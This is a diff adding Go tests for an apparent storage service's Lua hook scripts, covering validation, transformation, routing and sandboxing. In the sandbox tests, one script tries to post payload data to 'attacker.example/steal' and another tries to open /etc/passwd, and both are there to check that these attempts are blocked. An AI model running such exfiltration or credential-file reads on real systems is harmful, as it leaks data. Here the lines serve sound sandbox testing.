@@ -0,0 +1,189 @@
+package tests
+
+import (
+	"errors"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/ahmad-alkadri/simple-depot/internal/services"
+)
+
+// loadScripts writes each script into a directory and loads it
+func loadScripts(t *testing.T, storage services.StorageService, scripts map[string]string) (*services.LuaScripts, error) {
+	t.Helper()
+	dir := t.TempDir()
+	for name, source := range scripts {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(source), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return services.LoadLuaScripts(dir, storage, 200*time.Millisecond, 1<<20, 2, []string{"hooks.internal"})
+}
+
+// recordingRouter remembers which targets scripts routed payloads to
+type recordingRouter struct {
+	mu     sync.Mutex
+	routes []string
+}
+
+func (r *recordingRouter) ForwardTo(record services.ObjectRecord, target string) error {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	if target == "missing" {
+		return services.ErrUnknownTarget
+	}
+	r.routes = append(r.routes, record.ObjectName+"->"+target)
+	return nil
+}
+
+func (r *recordingRouter) Routes() []string {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	return append([]string{}, r.routes...)
+}
+
+func TestLuaScripts_ValidateAndTransformUploads(t *testing.T) {
+	mockService := NewMockStorageService()
+	depot := newTestDepot(mockService)
+	scripts, err := loadScripts(t, mockService, map[string]string{
+		"10-validate.lua": `
+function validate(p)
+  local doc, err = depot.json_decode(p.data)
+  if doc == nil then return false, "body is not JSON" end
+  if doc.secret ~= nil then return false, "secrets are not accepted" end
+end`,
+		"20-transform.lua": `
+function transform(p)
+  local doc = depot.json_decode(p.data)
+  doc.checked = true
+  doc.tag = p.tags[1]
+  return { data = depot.json_encode(doc), content_type = "application/vnd.depot+json" }
+end`,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	depot.payloadService.SetPayloadScripter(scripts)
+
+	w := postWithID(depot, "rejected", `{"secret": "hunter2"}`, false)
+	if w.Code != http.StatusUnprocessableEntity || !strings.Contains(w.Body.String(), "secrets are not accepted") {
+		t.Fatalf("Expected the upload to be rejected, got %d: %s", w.Code, w.Body.String())
+	}
+	if w := postWithID(depot, "garbage", `not json`, false); w.Code != http.StatusUnprocessableEntity {
+		t.Errorf("Expected a non-JSON upload to be rejected, got %d", w.Code)
+	}
+
+	_, err = depot.payloadService.StorePayload([]byte(`{"a": 1}`), "application/json", "", services.StoreOptions{RequestID: "accepted", Tags: []string{"audit"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	data := waitForObject(t, mockService, "accepted_payload.json")
+	if string(data) != `{"a":1,"checked":true,"tag":"audit"}` {
+		t.Errorf("Expected the transformed payload, got %s", data)
+	}
+	if contentType := mockService.contentTypes["accepted_payload.json"]; contentType != "application/vnd.depot+json" {
+		t.Errorf("Expected the transformed content type, got %s", contentType)
+	}
+}
+
+func TestLuaScripts_RouteAndNotifyAfterStore(t *testing.T) {
+	mockService := NewMockStorageService()
+	mockService.payloads["r1_payload.json"] = []byte(`{"level": "error"}`)
+	scripts, err := loadScripts(t, mockService, map[string]string{
+		"route.lua": `
+function route(p)
+  local doc = depot.json_decode(p.data)
+  if doc.level == "error" then return { "pager", "missing" } end
+  return "archive"
+end
+function notify(p)
+  depot.log("stored", p.object_name, p.size, depot.sha256(p.data))
+end`,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	router := &recordingRouter{}
+	scripts.SetRouter(router)
+
+	scripts.PayloadStored(services.ObjectRecord{RequestID: "r1", ObjectName: "r1_payload.json", Size: 18})
+	scripts.PayloadStored(services.ObjectRecord{ObjectName: "probe", Tags: []string{services.SelfTestTag}})
+
+	deadline := time.Now().Add(2 * time.Second)
+	for len(router.Routes()) == 0 && time.Now().Before(deadline) {
+		time.Sleep(5 * time.Millisecond)
+	}
+	time.Sleep(20 * time.Millisecond)
+	if routes := router.Routes(); len(routes) != 1 || routes[0] != "r1_payload.json->pager" {
+		t.Errorf("Expected the payload to be routed to pager only, got %v", routes)
+	}
+}
+
+func TestLuaScripts_Sandbox(t *testing.T) {
+	mockService := NewMockStorageService()
+	scripts, err := loadScripts(t, mockService, map[string]string{
+		"a.lua": `
+counter = 0
+function validate(p)
+  if os or io or require or load or loadstring or dofile or loadfile then
+    return false, "sandbox escaped"
+  end
+  local ok, err = depot.http_post("http://attacker.example/steal", p.data)
+  if ok ~= nil or not string.find(err, "not allowed") then
+    return false, "http_post reached a disallowed host"
+  end
+  counter = counter + 1
+end`,
+		// b.lua cannot see a.lua's globals
+		"b.lua": `
+function validate(p)
+  if counter ~= nil then return false, "globals leaked between scripts" end
+  if p.data == "spin" then while true do end end
+end`,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	payload := services.ProcessedPayload{ObjectName: "s_payload.txt", Data: []byte("hello"), ContentType: "text/plain"}
+	if err := scripts.Validate("s", payload, nil); err != nil {
+		t.Fatalf("Expected the sandboxed scripts to accept the payload, got %v", err)
+	}
+
+	started := time.Now()
+	payload.Data = []byte("spin")
+	err = scripts.Validate("s", payload, nil)
+	if err == nil || errors.Is(err, services.ErrPayloadRejected) || !strings.Contains(err.Error(), "timed out") {
+		t.Errorf("Expected a runaway script to time out, got %v", err)
+	}
+	if elapsed := time.Since(started); elapsed > time.Second {
+		t.Errorf("Expected the timeout to stop the script promptly, took %s", elapsed)
+	}
+
+	// The timed-out sandbox is replaced and scripts keep working
+	payload.Data = []byte("hello")
+	for i := 0; i < 3; i++ {
+		if err := scripts.Validate("s", payload, nil); err != nil {
+			t.Fatalf("Expected scripts to recover after a timeout, got %v", err)
+		}
+	}
+}
+
+func TestLuaScripts_RejectsBrokenScripts(t *testing.T) {
+	mockService := NewMockStorageService()
+	for name, scripts := range map[string]map[string]string{
+		"syntax error":    {"bad.lua": "function validate(p"},
+		"load error":      {"bad.lua": "error('boom')"},
+		"no scripts":      {"readme.txt": "not a script"},
+		"sandboxed loads": {"bad.lua": "local f = io.open('/etc/passwd')"},
+	} {
+		if _, err := loadScripts(t, mockService, scripts); err == nil {
+			t.Errorf("%s: expected loading to fail", name)
+		}
+	}
+}